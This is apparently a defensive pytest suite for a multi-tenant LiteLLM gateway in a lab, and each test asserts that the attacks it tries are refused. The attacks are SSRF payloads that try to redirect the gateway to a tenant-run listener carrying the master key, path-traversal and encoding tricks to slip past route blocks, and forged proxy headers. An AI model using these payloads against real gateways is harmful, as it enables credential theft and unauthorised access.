"""The gateway, attacked from each project's container with its own key, and from the world through its domain."""

from __future__ import annotations

import base64
import json
import secrets as random
import subprocess
import textwrap
from collections.abc import Callable
from typing import Any

import pytest

from blueprint import Secrets
from blueprint.model import Project
from group_data.shared import gateway, shared_stacks
from lab import authority
from lab.machine import Machine
from tests.host.conftest import Outside
from tests.services.declared import everything
from tests.services.tenants import Tenant

PROJECTS = [project.name for project in everything().projects]
[SERVICE] = [one for stack in shared_stacks for one in stack.services if one.name == gateway.container]
DOMAIN = SERVICE.domains[0]
URL = f"http://litellm:{gateway.port}"
MODEL = "cheap"


@pytest.fixture(params=PROJECTS)
def tenant(request: pytest.FixtureRequest, tenants: list[Tenant]) -> Tenant:
    """Each project."""
    return next(tenant for tenant in tenants if tenant.project.name == request.param)


# What each program begins with: its own key, and a question that is in order.
BEGINNING = """
key = os.environ["LITELLM_API_KEY"]
url = arguments["url"]
question = {"model": arguments["model"], "max_tokens": 8, "messages": [{"role": "user", "content": "ping"}]}
"""


def attack(tenant: Tenant, program: str, **arguments: Any) -> Any:
    """What a program in a container of the project prints, with its `key`, the gateway's `url` and a `question`."""
    return tenant.python(BEGINNING + textwrap.dedent(program), **{"url": URL, "model": MODEL, **arguments})


# A listener in the attacker's own container, and every way of telling the gateway to go there.
LISTENER = """
import threading, urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

heard = []

class Listener(BaseHTTPRequestHandler):
    def do_GET(self):
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode(errors="replace")
        heard.append([self.command, self.path, str(self.headers), body])
        self.send_response(500)
        self.end_headers()
    do_POST = do_PUT = do_HEAD = do_GET
    def log_message(self, *args):
        pass

server = ThreadingHTTPServer(("0.0.0.0", 0), Listener)
threading.Thread(target=server.serve_forever, daemon=True).start()
mine = f"http://{socket.gethostname()}:{server.server_port}"
stolen = "os.environ/LITELLM_MASTER_KEY"
backend = {"model": "openai/x", "api_base": mine, "api_key": stolen}
bodies = {
    "user_config": {"user_config": {"model_list": [{"model_name": arguments["model"], "litellm_params": backend}]}},
    "model_list": {"model_list": [{"model_name": arguments["model"], "litellm_params": backend}]},
    "api_base": {"api_base": mine},
    "api_base, api_key": {"api_base": mine, "api_key": stolen},
    "base_url": {"base_url": mine, "api_key": stolen},
    "litellm_params": {"litellm_params": backend},
    "fallbacks": {"fallbacks": [backend], "mock_testing_fallbacks": True},
    "extra_headers": {"extra_headers": {"x": stolen}},
    "extra_body": {"extra_body": {"api_base": mine}},
    "langfuse": {"langfuse_host": mine, "langfuse_public_key": "x", "langfuse_secret_key": stolen},
    "metadata": {"metadata": {"langfuse_host": {"url": mine}}},
    "callbacks": {"success_callback": ["webhook"], "callbacks": [mine]},
    "router_settings": {"router_settings": {"model_group_alias": {arguments["model"]: "openai/x"}}},
    "model": {"model": "openai/gpt-4o-mini"},
    "image": {"messages": [{"role": "user", "content": [
        {"type": "image_url", "image_url": {"url": mine + "/x.png"}}]}], "model": "vision"},
}
kinds = ("application/json", "text/plain", "application/json; charset=utf-8; x=form", "", "application/xml")
answers = {}
for path in ("/v1/chat/completions", "/chat/completions", "/v1/completions", "/v1/embeddings"):
    for name, more in bodies.items():
        for kind in kinds if path == "/v1/chat/completions" else kinds[:1]:
            sent = json.dumps({**question, **more}).encode()
            answers[f"{path} {name} as {kind}"] = answer(
                url + path, sent, key, headers={"Content-Type": kind} if kind else {"X-None": "1"})
twice = json.dumps(question)[:-1] + ', "model": "openai/gpt-4o-mini"}'
answers["a key twice"] = answer(url + "/v1/chat/completions", twice.encode(), key)
flat = {"model": arguments["model"], "api_base": mine, "api_key": stolen}
form = "".join(
    f'--b\\r\\nContent-Disposition: form-data; name="{name}"\\r\\n\\r\\n{value}\\r\\n' for name, value in flat.items()
) + '--b\\r\\nContent-Disposition: form-data; name="file"; filename="a.wav"\\r\\n\\r\\nRIFF\\r\\n--b--\\r\\n'
encoded = urllib.parse.urlencode(flat)
for path in ("/v1/chat/completions", "/v1/audio/transcriptions", "/v1/images/generations", "/v1/files"):
    answers[f"{path} multipart"] = answer(
        url + path, form.encode(), key, headers={"Content-Type": "multipart/form-data; boundary=b"})
    answers[f"{path} urlencoded"] = answer(
        url + path, encoded.encode(), key, headers={"Content-Type": "application/x-www-form-urlencoded"})
    answers[f"{path} in the address"] = answer(url + path + "?" + encoded, question, key)
for header in ("langfuse_host", "x-litellm-api-base", "langfuse_existing_trace_id"):
    answer(url + "/v1/models", None, key, headers={header: mine})
print(json.dumps({"heard": heard, "answers": answers}))
"""


def test_no_backend_of_a_projects_own_is_asked_with_our_keys(tenant: Tenant) -> None:
    output = attack(tenant, LISTENER)
    assert output["heard"] == []
    passed = {name: answer for name, answer in output["answers"].items() if answer[0] not in (400, 403)}
    assert passed == {}
    master = Secrets.open("lab").provided("litellm/master_key")
    assert master not in json.dumps(output)


def test_what_is_refused_is_named(tenant: Tenant) -> None:
    program = """
    status, text = answer(url + "/v1/chat/completions", {**question, "user_config": {}}, key)
    print(json.dumps([status, json.loads(text)["error"]["param"]]))
    """
    assert attack(tenant, program) == [400, "user_config"]


REFUSED_ROUTES = [
    ("GET", "/openai/v1/models"),
    ("POST", "/openai/v1/chat/completions"),
    ("POST", "/openai/deployments/gpt-4o-mini/chat/completions"),
    ("POST", "/engines/gpt-4o-mini/chat/completions"),
    ("POST", "/gemini/v1beta/models/gemini-2.5-flash:generateContent"),
    ("POST", "/vertex-ai/v1/x"),
    ("POST", "/vertex_ai/v1/x"),
    ("POST", "/anthropic/v1/messages"),
    ("POST", "/bedrock/model/x/invoke"),
    ("POST", "/cohere/v1/chat"),
    ("POST", "/assemblyai/v2/transcript"),
    ("POST", "/azure/x"),
    ("GET", "/langfuse/api/public/traces"),
    ("POST", "/v1/messages"),
    ("GET", "/v1/files"),
    ("GET", "/v1/batches"),
    ("GET", "/v1/assistants"),
    ("GET", "/v1/fine_tuning/jobs"),
    ("POST", "/v1/moderations"),
    ("POST", "/utils/transform_request"),
    ("GET", "/health"),
    ("GET", "/health/services"),
    ("GET", "/model/info"),
    ("GET", "/v1/model/info"),
    ("GET", "/v2/model/info"),
    ("GET", "/model_group/info"),
    ("GET", "/team/list"),
    ("GET", "/key/list"),
    ("GET", "/user/info"),
    ("GET", "/spend/logs"),
    ("GET", "/global/spend"),
    ("GET", "/get/config/callbacks"),
    ("GET", "/config/yaml"),
    ("POST", "/config/update"),
    ("POST", "/key/generate"),
    ("POST", "/key/update"),
    ("POST", "/team/new"),
    ("POST", "/model/new"),
    ("GET", "/routes"),
    ("GET", "/openapi.json"),
    ("GET", "/metrics"),
    ("GET", "/test"),
    ("GET", "/v1/realtime?model=gpt-4o"),
    # Ways around a list of paths.
    ("GET", "//health"),
    ("GET", "/health/"),
    ("GET", "/Health"),
    ("GET", "/%68ealth"),
    ("GET", "/v1/..%2fhealth"),
    ("GET", "/v1/models/../../health"),
    ("GET", "/ui/..%2f..%2fkey/list"),
    ("GET", "/health;x"),
    ("GET", "/health%3f"),
]


def test_a_project_has_no_route_but_the_listed_ones(tenant: Tenant) -> None:
    program = """
    found = {}
    for method, path in arguments["routes"]:
        for host in ("litellm", arguments["domain"]):
            headers = {"Host": host, "X-Forwarded-For": "127.0.0.1", "X-Original-URL": "/v1/models"}
            status, text = answer(url + path, question if method == "POST" else None, key, method, headers)
            if status != 403:
                found[f"{method} {path} of {host}"] = [status, text[:200]]
    # The name of a host is part of the address that LiteLLM looks at.
    status, text = answer(url + "/v1/models", None, key, headers={"Host": "x/key/list?a="})
    if status != 400:
        found["host"] = [status, text[:200]]
    print(json.dumps(found))
    """
    assert attack(tenant, program, routes=REFUSED_ROUTES, domain=DOMAIN) == {}


def test_a_project_reads_its_own_team_and_no_other(tenant: Tenant) -> None:
    program = """
    found = {team: answer(f"{url}/team/info?team_id={team}", None, key)[0] for team in arguments["teams"]}
    found["models"] = answer(url + "/v1/models", None, key)[0]
    found["key"] = answer(url + "/key/info", None, key)[0]
    found["another key"] = answer(url + "/key/info?key=" + "0" * 64, None, key)[0]
    found["chat"] = answer(url + "/v1/chat/completions", question, key)[0]
    print(json.dumps(found))
    """
    teams = [project.team.name for project in everything().projects]
    expected = {team: 200 if team == tenant.project.team.name else 403 for team in teams}
    expected |= {"models": 200, "key": 200, "another key": 400, "chat": 200}
    assert attack(tenant, program, teams=teams) == expected


def test_a_cached_answer_stays_in_its_own_project(tenants: list[Tenant]) -> None:
    program = """
    kept = {**question, "model": arguments["model"], "cache": {"use-cache": True, "ttl": 60}}
    kept["messages"] = [{"role": "user", "content": arguments["words"]}]
    print(json.dumps([json.loads(answer(url + "/v1/chat/completions", kept, key)[1])["id"] for _ in range(2)]))
    """
    words = f"Answer with one word: {random.token_hex(8)}"
    pairs = {one.project.name: attack(one, program, words=words, model="gpt-4o-mini") for one in tenants}
    assert [name for name, (first, second) in pairs.items() if first != second] == []
    assert len({first for first, _ in pairs.values()}) == len(pairs), pairs


def test_no_credential_is_in_a_log(tenant: Tenant, machine: Machine) -> None:
    program = """
    canary = arguments["canary"]
    statuses = []
    for each in (canary, key):
        for path in (f"/gemini/v1beta/models/x:generateContent?key={each}", f"/v1/models?api_key={each}",
                     f"/v1/chat/completions?key={each}", f"/key/{each}/regenerate", f"/{each}",
                     f"/key/info?key={each}", f"/ui/{each}?key={each}"):
            statuses.append(answer(url + path, None, key)[0])
    for header in ("Authorization", "api-key", "x-api-key", "x-goog-api-key", "x-litellm-api-key"):
        for value in (canary, "Bearer " + canary, canary[3:], "Bearer " + canary[3:], "Basic " + canary[3:]):
            statuses.append(answer(url + "/v1/models", None, None, headers={header: value})[0])
    for upgrade in ("/v1/realtime?model=x&key=" + canary,):
        statuses.append(answer(url + upgrade, None, key, headers={
            "Upgrade": "websocket", "Connection": "Upgrade", "Sec-WebSocket-Version": "13",
            "Sec-WebSocket-Key": "AAAAAAAAAAAAAAAAAAAAAA=="})[0])
    answer(url + "/v1/chat/completions", {**question, "user_config": canary}, key)
    answer(url + "/v1/chat/completions", question, key)
    print(json.dumps(statuses))
    """
    canary = f"sk-canary{random.token_hex(16)}"
    since = machine.run("date +%s").stdout.strip()
    output = attack(tenant, program, canary=canary)
    assert set(output) <= {200, 400, 401, 403, 404}, output
    log = machine.run(f"docker logs --since {since} {gateway.container} 2>&1").stdout
    assert " POST /v1/chat/completions 200" in log, "the log says nothing of what was asked"
    key = Secrets.open("lab").provided(tenant.project.team.key_secret)
    assert [secret for secret in (canary, canary[3:], key) if secret in log] == []


def test_a_large_body_is_refused_before_it_takes_memory(tenant: Tenant) -> None:
    program = """
    large = json.dumps({**question, "messages": [{"role": "user", "content": "x" * (17 * 1024 * 1024)}]}).encode()
    parts = b'{"messages":[' + b"[]," * 600000 + b"[]]}"
    print(json.dumps([answer(url + "/v1/chat/completions", body, key)[0] for body in (large, parts)]))
    """
    # Who is refused while he still sends may hear it or find the connection closed.
    large, parts = attack(tenant, program)
    assert (large in (0, 413), parts) == (True, 413)


# --- the public domain

Ask = Callable[..., tuple[int, str]]


@pytest.fixture
def world(machine: Machine, outside: Outside) -> Ask:
    """Ask the gateway's domain as a stranger does."""

    def ask(path: str, *options: str, key: str = "", body: Any = None) -> tuple[int, str]:
        known = (
            "--resolve",
            f"{DOMAIN}:443:{machine.lab.machine}",
            "--cacert",
            str(authority.certificate_file()),
        )
        more = [*options]
        if key:
            more += ["--header", f"Authorization: Bearer {key}"]
        if body is not None:
            more += ["--header", "Content-Type: application/json", "--data", json.dumps(body)]
        done: subprocess.CompletedProcess[str] = outside(
            "curl", "-sS", "--noproxy", "*", "--max-time", "60", "--path-as-is", *known, *more,
            "--write-out", "\n%{http_code}", f"https://{DOMAIN}{path}",
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
        text, _, status = done.stdout.rpartition("\n")
        return int(status), text

    return ask


def key_of(project: Project) -> str:
    return Secrets.open("lab").provided(project.team.key_secret)


def test_a_project_is_served_at_the_domain(world: Ask) -> None:
    chat = {"model": MODEL, "max_tokens": 8, "messages": [{"role": "user", "content": "ping"}]}
    for project in everything().projects:
        assert world("/v1/chat/completions", key=key_of(project), body=chat)[0] == 200
        assert world("/v1/models", key=key_of(project))[0] == 200
        assert world("/v1/chat/completions", key=key_of(project), body={**chat, "user_config": {}})[0] == 400
        for _, path in REFUSED_ROUTES:
            assert world(path, key=key_of(project))[0] == 403, path


# A stranger's attempts to pass as an insider. Traefik's own headers can be taken off on the way.
PRETENDING = [
    (),
    ("--header", "X-Forwarded-For: 127.0.0.1"),
    ("--header", "Connection: X-Forwarded-For, X-Forwarded-Host, X-Forwarded-Proto, X-Real-Ip"),
    ("--header", "X-Forwarded-Host: litellm:4000", "--header", "X-Forwarded-Port: 4000"),
    ("--header", "Forwarded: for=127.0.0.1;host=litellm"),
]


@pytest.mark.parametrize("options", PRETENDING, ids=lambda options: options[-1] if options else "as it is")
def test_nothing_is_administered_through_the_domain(world: Ask, options: tuple[str, ...]) -> None:
    master = Secrets.open("lab").provided("litellm/master_key")
    assert world("/key/list", *options, key=master)[0] == 403
    assert world("/team/new", *options, key=master, body={"team_alias": "intruder"})[0] == 403
    assert world("/health/readiness", *options)[0] == 401
    assert world("/health/liveliness", *options)[0] == 200


def test_the_dashboard_lets_its_owner_in_to_look(world: Ask, machine: Machine) -> None:
    master = Secrets.open("lab").provided("litellm/master_key")
    status, form = world("/sso/key/generate")
    assert (status, "/login" in form) == (200, True)
    assert world("/ui/")[0] == 200
    assert world("/login", "--data", "username=admin&password=wrong")[0] == 401
    status, head = world("/login", "--data", f"username=admin&password={master}", "--dump-header", "-")
    assert status == 303, head
    token = next(line for line in head.splitlines() if line.lower().startswith("set-cookie: token=")).split(
        "="
    )[1]
    login = _payload(token.split(";")[0])["key"]
    try:
        teams = json.loads(world("/team/list", key=login)[1])
        assert {team["team_id"] for team in teams} >= {project.team.name for project in everything().projects}
        for path in ("/key/list", "/v2/model/info", "/global/spend/logs", "/spend/logs/ui?page=1"):
            assert world(path, key=login)[0] != 403, path
        for path in ("/key/generate", "/team/new", "/config/update", "/v1/chat/completions"):
            assert world(path, key=login, body={"model": MODEL})[0] == 403, path
        for path in ("/health", "/get/config/callbacks", "/openai/v1/models"):
            assert world(path, key=login)[0] == 403, path
    finally:
        ask = (
            "import json, os, sys, urllib.request; urllib.request.urlopen(urllib.request.Request("
            f"'http://127.0.0.1:{gateway.port}/key/delete', json.dumps({{'keys': [sys.stdin.read()]}}).encode(), "
            "{'Authorization': 'Bearer ' + os.environ['LITELLM_MASTER_KEY'], 'Content-Type': 'application/json'}))"
        )
        machine.run(f'docker exec -i {gateway.container} python3 -c "{ask}"', input=login)


def _payload(token: str) -> dict[str, Any]:
    """What a JSON Web Token says, unverified."""
    part = token.split(".")[1]
    return dict(json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))))


def test_a_key_in_an_address_of_the_domain_is_in_no_log(world: Ask, machine: Machine) -> None:
    canary = f"sk-canary{random.token_hex(16)}"
    since = machine.run("date +%s").stdout.strip()
    for path in (
        f"/gemini/v1beta/models/x:generateContent?key={canary}",
        f"/{canary}",
        f"/v1/models?key={canary}",
    ):
        assert world(path)[0] == 401
    for container in (gateway.container, "traefik"):
        assert canary not in machine.run(f"docker logs --since {since} {container} 2>&1").stdout
